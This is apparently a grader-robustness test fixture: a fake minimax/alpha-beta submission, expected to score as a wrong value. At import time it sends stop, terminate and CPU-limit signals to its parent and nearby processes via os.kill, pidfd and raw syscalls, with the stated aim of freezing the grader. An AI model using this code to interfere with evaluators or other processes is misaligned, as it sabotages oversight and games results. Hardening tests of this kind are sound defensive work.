# expect: wrong_value
# Stops and continues all processes that it may signal, to freeze the grader.

if __name__ not in ("minimax", "alpha_beta"):
    raise ImportError("this program may do harm: it is for the sandbox alone")

import ctypes
import os
import signal
from contextlib import suppress

libc = ctypes.CDLL(None)
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGXCPU):
    for pid in (os.getppid(), os.getppid() - 1, os.getppid() - 2):
        with suppress(OSError):
            os.kill(pid, number)
        with suppress(OSError, AttributeError):
            signal.pidfd_send_signal(os.pidfd_open(pid), number)
        libc.syscall(129, pid, number, ctypes.create_string_buffer(128))
        libc.syscall(200, pid, number)  # tkill; above, rt_sigqueueinfo


def minimax_search(game, state):
    return game.actions(state)[0]


def max_value(game, state):
    while not game.is_terminal(state):
        state = game.successors(state)[0][1]
    return game.utility(state)


min_value = max_value
